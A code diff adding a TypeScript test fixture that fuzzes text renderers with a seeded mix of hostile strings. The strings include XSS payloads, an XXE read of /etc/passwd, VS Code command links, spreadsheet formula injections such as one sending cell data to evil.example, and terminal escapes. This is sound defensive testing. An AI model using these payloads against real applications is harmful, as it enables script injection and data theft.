@@ -1,0 +1,111 @@
+import { SeededRandom } from '../../src/core/seededRandom';
+
+/** Whole attacks, and what they are made of. */
+const attacks = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '<a href="command:workbench.action.quit">x</a>',
+  '<span style="background:url(https://evil.example/?)">',
+  '</code></span></td></table>',
+  '</pre></script><script>',
+  '<!--',
+  '-->',
+  ']]>',
+  '<![CDATA[',
+  '<?xml version="1.0"?>',
+  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
+  '&e;',
+  '[x](command:workbench.action.quit)',
+  '[x](<command:workbench.action.quit> "t")',
+  '[x]: command:workbench.action.quit',
+  '![x](https://evil.example/x.png)',
+  '<command:workbench.action.quit>',
+  '<https://evil.example>',
+  'https://evil.example/?q=',
+  'www.evil.example',
+  'me@evil.example',
+  'javascript:alert(1)',
+  'data:text/html,<b>',
+  '$(trash)',
+  '$(sync~spin)',
+  '`',
+  '```\n',
+  '~~~',
+  '|',
+  '| --- |',
+  '\n\n---\n\n',
+  '\n# ',
+  '\n> ',
+  '\n- ',
+  '\n    ',
+  '**',
+  '__',
+  '~~',
+  '\\',
+  '\\|',
+  '&lt;',
+  '&#60;',
+  '&amp;',
+  '&#x3c;',
+  '&nbsp;',
+  '"',
+  "'",
+  '""',
+  '","',
+  '=HYPERLINK("https://evil.example/?"&A1,"x")',
+  "=cmd|'/C calc'!A0",
+  '+1+1',
+  '-2+3',
+  '@SUM(1)',
+  '＝1',
+  '\t=1',
+  "'=1",
+  ';',
+  '{{x}}',
+  '${x}',
+  '%0a',
+  '\u202e',
+  '\u2066',
+  '\u200b',
+  '\u200d',
+  '\u2028',
+  '\ufeff',
+  '\u0301',
+  '\ufe0f',
+  '\u{e0041}',
+  '\ufffe',
+  '\ud800',
+  '\udc00',
+  '\u0007',
+  '\u001b]0;x\u0007',
+  '\u001b[31m',
+  '\u0085',
+  '\u009b',
+  '\r',
+  '\r\n',
+  '\n',
+  '\t',
+  ' ',
+  'a',
+  '0',
+  'é',
+  '漢',
+  '🙂',
+] as const;
+
+/** Texts that mean something to Markdown, HTML, XML, VS Code, spreadsheets or terminals, the same in every run: attacks alone and in pieces, and any characters. */
+export function hostileTexts(count: number, seed = 9): readonly string[] {
+  const random = new SeededRandom(seed);
+  const below = (limit: number) => random.next32() % limit;
+  const character = () =>
+    String.fromCodePoint([below(0x80), below(0x80), below(0x2100), 0x2000 + below(0x70), below(0x11_0000)][below(5)] ?? 0);
+  const piece = () => {
+    const attack = attacks[below(attacks.length)] ?? '';
+    const kind = below(5);
+    if (kind === 0) return character();
+    return kind === 1 ? attack.slice(below(attack.length), below(attack.length) + 1) : attack;
+  };
+  const made = Array.from({ length: count - attacks.length }, () => Array.from({ length: 1 + below(5) }, piece).join(''));
+  return [...attacks, ...made].map(text => (text === '' ? '<' : text));
+}
